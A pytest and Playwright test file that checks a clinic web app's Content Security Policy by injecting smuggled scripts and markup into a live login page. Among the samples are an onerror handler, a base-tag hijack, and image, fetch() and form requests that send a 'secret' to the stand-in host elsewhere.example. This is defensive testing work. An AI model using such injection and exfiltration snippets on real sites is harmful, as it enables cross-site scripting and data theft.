"""The content policy in a browser: nothing of ours breaks it, and nothing else gets past it."""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page

from clinic.api.tokens import issue_token
from clinic.models import Membership, Organization, Role
from sessions.models import Session
from tests.factories import make_clinic, make_member
from tests.hardening.booking import booked_from_now
from tests.walls.places import OTHER, all_places, model_of, row_names

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

TABS = 6
PASSWORD = "correct horse battery"
# Pages that sign out or lock as soon as they are seen.
LEAVING = {"account_logout", "accounts:lock"}
WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation",
    (event) => window.refused.push(event.effectiveDirective));
window.refusal = new Promise(
    (done) => document.addEventListener("securitypolicyviolation", done, {once: true}));
"""
# Each is what somebody might smuggle into a page; where `ran` is set, it ran.
BY_SCRIPT = {
    "script-src": "setTimeout(() => Function('ran = 1')())",
    "img-src": "new Image().src = 'https://elsewhere.example/?secret'",
    "connect-src": "fetch('https://elsewhere.example/?secret').catch(() => 1)",
}
BY_MARKUP = {
    "script-src-attr": "<img src=x onerror='ran = 1'>",
    "style-src-elem": "<style>h1 {display: none}</style>",
    "style-src-attr": "<p style='color: red'>x</p>",
    "base-uri": "<base href='//elsewhere.example'>",
    "frame-src": "<iframe src='/healthz'></iframe>",
    "object-src": "<embed src='/healthz'>",
}
INSERT = "html => document.body.insertAdjacentHTML('beforeend', html)"
INLINE = """
const script = document.createElement('script');
script.textContent = 'ran = 1'; document.head.append(script)
"""
SEND = """
const form = document.createElement('form');
form.action = 'https://elsewhere.example/'; document.body.append(form); form.submit()
"""


@pytest.fixture
def everybody(live_server) -> Membership:
    """Somebody with every role, where a course is booked and one is planned."""
    clinic = make_clinic()
    Organization.objects.filter(pk=clinic.organization.pk).update(mfa_required="NOBODY")
    booked_from_now(clinic)
    member = make_member(clinic.site, *Role, email="all@example.com", password=PASSWORD)
    issue_token(member=member, name="One")
    return member


@pytest.fixture
def tab(page: Page, everybody, live_server) -> Page:
    """A tab in which they have just signed in, and which notes what the policy refuses."""
    page.add_init_script(WATCH)
    page.goto(f"{live_server.url}/accounts/login/")
    page.locator("#id_login").fill("all@example.com")
    page.locator("#id_password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in", exact=True).click()
    page.wait_for_url(f"{live_server.url}/")
    return page


def world_of(member: Membership) -> dict[str, Any]:
    """An id for every argument of an address of which this organisation has a row."""
    rows = {name: model_of(name)._default_manager.filter(organization_id=member.organization_id)
            for name in row_names()}  # fmt: skip
    first = {name: found.order_by("pk").first() for name, found in rows.items()}
    return OTHER | {name: getattr(row, "id", row.pk) for name, row in first.items() if row}


def full_pages(tab: Page, everybody: Membership, root: str) -> Iterator[str]:
    """Every address at which this tab is shown a whole page."""
    world = world_of(everybody)
    for place in all_places():
        if place.name in LEAVING or place.name.startswith("api:") or set(place.rows) - set(world):
            continue
        answer = tab.request.get(root + place.url(world), max_redirects=0)
        if answer.status == 200 and "<html" in answer.text():
            yield place.url(world)


@pytest.fixture
def tabs(tab: Page) -> Iterator[list[Page]]:
    """Several like it: most of the time that a page takes is waiting for it to be at rest."""
    errors: list[str] = []
    context = tab.context
    context.add_init_script(WATCH)
    context.on("weberror", lambda error: errors.append(str(error.error)))
    context.on("console", lambda line: errors.append(line.text) if line.type == "error" else None)
    yield [context.new_page() for _number in range(TABS)]
    assert not errors


def test_no_page_of_ours_asks_for_what_the_policy_refuses(tab, tabs, live_server, everybody):
    visit = Session.objects.earliest("starts_at")
    addresses = [f"/?day={visit.local_date}", *full_pages(tab, everybody, live_server.url)]
    assert len(addresses) > 25
    for start in range(0, len(addresses), TABS):
        for one, address in zip(tabs, shown := addresses[start : start + TABS], strict=False):
            one.goto(live_server.url + address, wait_until="commit")
        for one, address in zip(tabs, shown, strict=False):
            one.wait_for_load_state("networkidle")
            assert one.url.endswith(address)
            assert one.evaluate("window.refused") == [], address
            assert one.evaluate("document.documentElement.classList.contains('has-js')"), address


@pytest.fixture
def besieged(chromium, live_server):
    """A page like any other, whose console is expected to complain."""
    context = chromium.new_context()
    tab = context.new_page()
    tab.add_init_script(WATCH)
    tab.goto(f"{live_server.url}/accounts/login/")
    assert tab.evaluate("refused") == []
    yield tab
    context.close()


def attacked(tab: Page, address: str, script: str, argument: str = "") -> list[str]:
    """Which directives refused what a script did on a fresh page; it must not have run."""
    tab.goto(address)
    tab.evaluate(script, argument)
    tab.evaluate("refusal.then(() => 1)")  # to wait with a function would need eval in the page
    assert tab.evaluate("typeof ran") == "undefined"
    assert tab.evaluate("new URL(document.baseURI).host === location.host")
    return tab.evaluate("refused")


def test_what_is_smuggled_in_is_refused(besieged, live_server):
    address = f"{live_server.url}/accounts/login/"
    for directive, script in (BY_SCRIPT | {"script-src-elem": INLINE, "form-action": SEND}).items():
        assert directive in attacked(besieged, address, script)
    for directive, markup in BY_MARKUP.items():
        assert directive in attacked(besieged, address, INSERT, markup)


def test_control_without_the_policy_it_would_run(besieged, settings, live_server):
    settings.CONTENT_SECURITY_POLICY = {}
    besieged.goto(f"{live_server.url}/accounts/login/")
    besieged.evaluate(INLINE)
    assert besieged.evaluate("ran") == 1
    assert besieged.evaluate("refused") == []
